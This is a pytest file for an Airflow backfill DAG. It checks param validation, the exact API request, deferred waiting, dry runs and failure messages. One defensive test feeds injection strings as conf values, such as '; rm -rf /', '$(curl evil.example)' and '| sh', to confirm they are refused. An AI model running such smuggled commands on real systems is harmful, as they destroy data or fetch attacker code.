"""The timestream_backfill DAG under dag.test(): params refuse bad confs, good ones send one exact request."""

from __future__ import annotations

import logging
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest

from tests.dags.backfill_support import (
    API_CONN_ID,
    BEFORE_CREATION,
    CREATED_AT,
    EXPECTED_BODY,
    EXPORT_DAG_IDS,
    HOURS,
    PROBE_DAG_ID,
    SETTINGS_VARIABLE_ENV,
    VALID_CONF,
    RecordedRequest,
    RecordingApi,
    backfill_run,
    runtime_settings_json,
)
from timestream_pipeline import names
from timestream_pipeline.backfill_dag import build_backfill_dag

pytestmark = pytest.mark.usefixtures("airflow_db")
DAG_FILE = Path(__file__).resolve().parents[2] / "dags" / "timestream_backfill.py"
# dag.test() runs the deferred trigger inline: a tiny interval keeps the waiting tests fast.
FAST_POLL = timedelta(milliseconds=10)
# The only trigger the wait may defer to: Airflow's own, which the triggerer imports without the DAG folder.
TIME_DELTA_TRIGGER_CLASSPATHS = (
    "airflow.providers.standard.triggers.temporal.DateTimeTrigger",
    "airflow.providers.standard.triggers.temporal.TimeDeltaTrigger",
)
BACKFILL_PATH = "/api/v2/backfills/7"
WAIT_TASK_ID = "wait_for_backfill"


def trigger_dag(conf: dict[str, Any]) -> Any:
    """Trigger the DAG through dag.test (deferred waits polled every FAST_POLL); return the DAG run."""
    return build_backfill_dag(EXPORT_DAG_IDS, poll_interval=FAST_POLL).test(run_conf=conf)


def run_dag(conf: dict[str, Any]) -> dict[str, str]:
    """Trigger the DAG through dag.test and return each task's final state."""
    return {ti.task_id: str(ti.state) for ti in trigger_dag(conf).get_task_instances()}


def backfill_checks(api: RecordingApi) -> int:
    """How many times the backfill's state was read (GET /backfills/7)."""
    return sum(1 for r in api.api_requests if (r.method, r.path) == ("GET", BACKFILL_PATH))


def trigger_classpaths() -> list[str]:
    """The class path of every trigger row any task has deferred to (rows outlive dag.test)."""
    from airflow.models.trigger import Trigger
    from airflow.utils.session import create_session
    from sqlalchemy import select

    with create_session() as session:
        return list(session.scalars(select(Trigger.classpath).order_by(Trigger.id)))


def still_running_for(api: RecordingApi, checks: int) -> None:
    """Make the API report backfill 7 running for its first `checks` reads, completed after that."""
    answer_as_recorded = api.answer

    def answer(request: RecordedRequest) -> tuple[int, Any]:
        if (request.method, request.path) != ("GET", BACKFILL_PATH):
            return answer_as_recorded(request)
        completed_at = None if backfill_checks(api) <= checks else "2026-11-02T09:00:00Z"
        return 200, {"id": 7, "created_at": CREATED_AT, "completed_at": completed_at}

    api.answer = answer  # type: ignore[method-assign]


def test_the_dag_file_parses_with_a_param_per_field() -> None:
    """The real DAG file imports cleanly and offers one param per conf field, dag_id limited to exports."""
    from airflow.models import DagBag

    # GIVEN the DAG file WHEN parsed
    bag = DagBag(dag_folder=str(DAG_FILE))
    # THEN no import error, the expected params and a schedule-less DAG
    assert bag.import_errors == {}
    dag = bag.dags[names.BACKFILL_DAG_ID]
    assert dag.schedule is None
    assert set(dag.params) == {
        "dag_id",
        "from_date",
        "to_date",
        "reprocess_behavior",
        "max_active_runs",
        "dry_run",
        "wait_for_completion",
    }
    assert all(
        i.startswith(names.EXPORT_DAG_ID_PREFIX) for i in dag.params.get_param("dag_id").schema["enum"]
    )


def test_the_wait_is_a_deferrable_operator_fed_by_both_upstream_tasks() -> None:
    """validate_conf -> create_backfill -> wait_for_backfill, the wait reading both tasks' XComs."""
    from timestream_pipeline.backfill_wait import WaitForBackfillOperator

    # GIVEN the DAG WHEN built THEN the wait task is our deferring operator, downstream of both tasks
    dag = build_backfill_dag(EXPORT_DAG_IDS)
    wait = dag.get_task(WAIT_TASK_ID)
    assert isinstance(wait, WaitForBackfillOperator)
    assert wait.upstream_task_ids == {"validate_conf", "create_backfill"}
    assert dag.get_task("create_backfill").upstream_task_ids == {"validate_conf"}


@pytest.mark.parametrize(
    "conf",
    [
        {**VALID_CONF, "dag_id": "timestream_export_backfill_probe; rm -rf /"},
        {**VALID_CONF, "from_date": "$(curl evil.example)"},
        {**VALID_CONF, "to_date": "2026-11-01T05:00:00Z\nairflow users create"},
        {**VALID_CONF, "reprocess_behavior": "failed | sh"},
        {**VALID_CONF, "max_active_runs": "4 && reboot"},
        {**VALID_CONF, "dry_run": "`id`"},
        {key: value for key, value in VALID_CONF.items() if key != "from_date"},
    ],
    ids=["dag_id", "from_date", "to_date", "reprocess", "max_runs", "dry_run", "missing"],
)
def test_airflow_params_refuse_a_bad_conf_before_the_run_exists(api: RecordingApi, conf: dict) -> None:
    """Airflow's param validation stops the trigger itself: no run, no task, no request."""
    from airflow.exceptions import ParamValidationError

    # GIVEN a conf breaking the JSON Schema WHEN the DAG is triggered THEN Airflow refuses it
    with pytest.raises(ParamValidationError):
        build_backfill_dag(EXPORT_DAG_IDS).test(run_conf=conf)
    assert api.requests == []


@pytest.mark.parametrize(
    "conf",
    [
        {**VALID_CONF, "command": "dags backfill -s 2021-09-10 -e 2021-10-10 x"},
        {**VALID_CONF, "to_date": "2026-11-01T00:00:00Z"},
        {**VALID_CONF, "to_date": "2026-12-31T00:00:00Z"},
    ],
    ids=["extra_key", "equal_dates", "span_over_limit"],
)
def test_rules_beyond_the_schema_fail_the_first_task_without_a_request(api: RecordingApi, conf: dict) -> None:
    """Extra keys, from >= to and the span limit pass the params but stop in validate_conf."""
    # GIVEN a conf the schema allows but the rules do not WHEN the DAG runs
    states = run_dag(conf)
    # THEN validate_conf fails, nothing downstream runs, no request is sent
    assert states["validate_conf"] == "failed"
    assert states["create_backfill"] == "upstream_failed"
    assert api.requests == []


def test_a_valid_conf_sends_exactly_one_backfill_request(api: RecordingApi) -> None:
    """A valid conf: one POST /api/v2/backfills with the expected body, then the runs are read back."""
    # GIVEN six queued backfill runs on the API side
    api.runs = [backfill_run(hour, "queued") for hour in HOURS]
    # WHEN the DAG runs with a valid conf
    states = run_dag(VALID_CONF)
    # THEN every task succeeded and the one create request is exact
    assert set(states.values()) == {"success"}
    create, runs = api.api_requests
    assert (create.method, create.path, create.body) == ("POST", "/api/v2/backfills", EXPECTED_BODY)
    assert (runs.method, runs.path) == ("GET", "/api/v2/dags/~/dagRuns")


def test_waiting_sleeps_in_airflows_own_trigger_between_checks(api: RecordingApi) -> None:
    """With wait_for_completion, the task checks, defers to Airflow's timer trigger, and checks again on
    each resume until the backfill completes; its XCom is the number of runs the backfill made."""
    # GIVEN six successful backfill runs, and a backfill still running for the first two checks
    api.runs = [backfill_run(hour, "success") for hour in HOURS]
    still_running_for(api, checks=2)
    earlier = trigger_classpaths()
    # WHEN the DAG runs and waits
    dag_run = trigger_dag({**VALID_CONF, "wait_for_completion": True})
    # THEN the task checked three times, deferring twice, each time to Airflow's time-delta trigger
    wait = dag_run.get_task_instance(WAIT_TASK_ID)
    assert str(wait.state) == "success"
    new = trigger_classpaths()[len(earlier) :]
    assert len(new) == 2 and set(new) <= set(TIME_DELTA_TRIGGER_CLASSPATHS)
    assert backfill_checks(api) == 3
    # AND it returned the six runs the backfill made
    assert wait.xcom_pull(task_ids=WAIT_TASK_ID) == len(HOURS)


def completed_with_one_failed_run(api: RecordingApi) -> None:
    """The API reports backfill 7 completed, its sixth run failed."""
    api.backfill = {"id": 7, "created_at": CREATED_AT, "completed_at": "2026-11-02T09:00:00Z"}
    api.runs = [backfill_run(hour, "success") for hour in HOURS[:5]]
    api.runs.append(backfill_run(HOURS[5], "failed"))


def test_waiting_fails_the_dag_when_a_backfill_run_failed(api: RecordingApi) -> None:
    """With wait_for_completion, a completed backfill with a failed run fails the wait task."""
    # GIVEN a backfill the API reports completed, with one failed run
    completed_with_one_failed_run(api)
    # WHEN the DAG runs and waits
    states = run_dag({**VALID_CONF, "wait_for_completion": True})
    # THEN the backfill was created and the wait task failed after one check
    assert states == {"validate_conf": "success", "create_backfill": "success", "wait_for_backfill": "failed"}
    assert backfill_checks(api) == 1


def test_a_failed_backfill_run_fails_the_wait_at_once_naming_it(api: RecordingApi) -> None:
    """The wait's failure says which run failed and what to do, and skips retries (AirflowFailException).

    Checked on the operator itself: Airflow 3.0's dag.test() keeps the task's error out of the test's output.
    """
    from timestream_pipeline.airflow_compat import fail_now
    from timestream_pipeline.backfill_wait import WaitForBackfillOperator

    # GIVEN a completed backfill with a failed run, and the wait task for it
    completed_with_one_failed_run(api)
    conf = {**VALID_CONF, "wait_for_completion": True}
    wait = WaitForBackfillOperator(task_id="wait", request_conf=conf, backfill_id=7)
    # WHEN it checks THEN it raises the no-retry failure naming the failed run and the fix
    with pytest.raises(type(fail_now(""))) as caught:
        wait.check(context={})
    assert str(caught.value) == (
        f"backfill 7 of {PROBE_DAG_ID} finished with 1 failed run(s) of 6: {HOURS[5]}; "
        "fix the cause and re-trigger with reprocess_behavior=failed"
    )


@pytest.mark.parametrize(
    "conf",
    [
        {**VALID_CONF, "wait_for_completion": False},
        {**VALID_CONF, "dry_run": True, "wait_for_completion": True},
    ],
    ids=["no_wait", "dry_run"],
)
def test_nothing_is_awaited_without_wait_for_completion_or_on_a_dry_run(
    api: RecordingApi, conf: dict
) -> None:
    """No wait asked for, or no backfill created (dry run): the wait task succeeds at once, no deferral."""
    # GIVEN a backfill that would never complete
    still_running_for(api, checks=10**6)
    earlier = trigger_classpaths()
    # WHEN the DAG runs
    states = run_dag(conf)
    # THEN every task succeeded, the wait task never deferred and the backfill state was never read
    assert set(states.values()) == {"success"}
    assert trigger_classpaths() == earlier
    assert backfill_checks(api) == 0


def test_a_dry_run_creates_nothing(api: RecordingApi) -> None:
    """A dry run posts only to /backfills/dry_run."""
    # GIVEN a dry-run conf WHEN the DAG runs THEN the only request is the dry run
    states = run_dag({**VALID_CONF, "dry_run": True})
    assert set(states.values()) == {"success"}
    assert [(r.method, r.path) for r in api.api_requests] == [("POST", "/api/v2/backfills/dry_run")]


def test_without_a_target_in_the_settings_the_run_fails_with_a_message(
    api: RecordingApi, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Neither an MWAA environment nor an API connection: create_backfill fails, nothing is sent."""
    # GIVEN settings naming no target
    monkeypatch.setenv(SETTINGS_VARIABLE_ENV, runtime_settings_json())
    # WHEN the DAG runs THEN create_backfill fails and no request leaves
    states = run_dag(VALID_CONF)
    assert states["create_backfill"] == "failed"
    assert api.requests == []


def test_an_mwaa_environment_in_the_settings_selects_invoke_rest_api(monkeypatch: pytest.MonkeyPatch) -> None:
    """The environment comes from the settings: with mwaa_environment_name set, MWAA is the transport."""
    from timestream_pipeline.backfill_target import transport_from_settings
    from timestream_pipeline.backfill_transport import MwaaTransport

    # GIVEN settings naming an MWAA environment (and an API connection, which MWAA takes precedence over)
    monkeypatch.setenv(
        SETTINGS_VARIABLE_ENV,
        runtime_settings_json(mwaa_environment_name="pipeline-airflow", airflow_api_conn_id=API_CONN_ID),
    )
    # WHEN the transport is chosen THEN it is MWAA, for that environment
    transport = transport_from_settings()
    assert isinstance(transport, MwaaTransport) and transport.environment_name == "pipeline-airflow"


def test_the_task_log_counts_only_the_runs_this_backfill_made(
    api: RecordingApi, caplog: pytest.LogCaptureFixture
) -> None:
    """Runs of the range that were not reprocessed: the log counts only the runs this backfill queued."""
    # GIVEN four runs of the range queued before the backfill existed and two it queued itself
    api.runs = [backfill_run(hour, "success", queued_at=BEFORE_CREATION) for hour in HOURS[:4]]
    api.runs += [backfill_run(hour, "queued") for hour in HOURS[4:]]
    # WHEN the DAG runs
    with caplog.at_level(logging.INFO, logger="timestream_pipeline.backfill_dag"):
        states = run_dag(VALID_CONF)
    # THEN it succeeded and its log names the two runs this backfill made, and only those
    assert set(states.values()) == {"success"}
    task_log = caplog.text
    assert "2 run(s) created or re-queued" in task_log
    assert f"logical dates: {HOURS[4]}, {HOURS[5]}" in task_log
